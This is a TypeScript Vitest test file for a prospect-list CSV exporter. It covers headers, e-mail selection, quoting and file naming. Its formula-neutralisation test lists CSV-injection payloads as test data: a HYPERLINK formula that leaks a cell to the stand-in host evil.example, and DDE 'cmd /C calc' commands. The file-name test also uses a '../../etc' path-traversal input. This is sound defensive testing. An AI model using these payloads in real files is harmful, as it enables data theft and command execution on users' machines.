import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvFileName, prospectsToCsv } from '../../../../lib/csv';
import { prospect } from '../prospects/fixtures';

function parse(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
}

describe('CSV export', () => {
  it('writes a header and one row per prospect with the best e-mail', () => {
    const rows = parse(
      prospectsToCsv([
        prospect('a', {
          name: 'Ana García',
          emails: [
            { email: 'bad@acme.example', status: 'not_valid' },
            { email: 'ana@acme.example', status: 'valid' },
          ],
        }),
      ]),
    );
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows[1]?.[0]).toBe('Ana García');
    expect(rows[1]?.[6]).toBe('ana@acme.example');
    expect(rows[1]?.[7]).toBe('valid');
  });

  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1, "Click")',
      `'=HYPERLINK("http://evil.example/?x="&A1, "Click")`,
    ],
    ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
    ['\t=1+1', `'\t=1+1`],
  ])('neutralises a formula in any cell: %s', (payload, expected) => {
    const rows = parse(
      prospectsToCsv([prospect('x', { name: payload, position: payload, company: payload })]),
    );
    expect(rows[1]?.[0]).toBe(expected);
    expect(rows[1]?.[3]).toBe(expected);
    expect(rows[1]?.[4]).toBe(expected);
  });

  it('keeps commas, quotes and line breaks inside one cell', () => {
    const rows = parse(prospectsToCsv([prospect('q', { name: 'Smith, "Jo"\nJr' })]));
    expect(rows).toHaveLength(2);
    expect(rows[1]?.[0]).toBe('Smith, "Jo"\nJr');
  });

  it('names the file after the domain and the day', () => {
    expect(csvFileName('acme.example', new Date('2026-11-01T10:00:00Z'))).toBe(
      'prospects-acme.example-2026-11-01.csv',
    );
    expect(csvFileName('../../etc', new Date('2026-11-01T10:00:00Z'))).toBe(
      'prospects-..-..-etc-2026-11-01.csv',
    );
  });
});
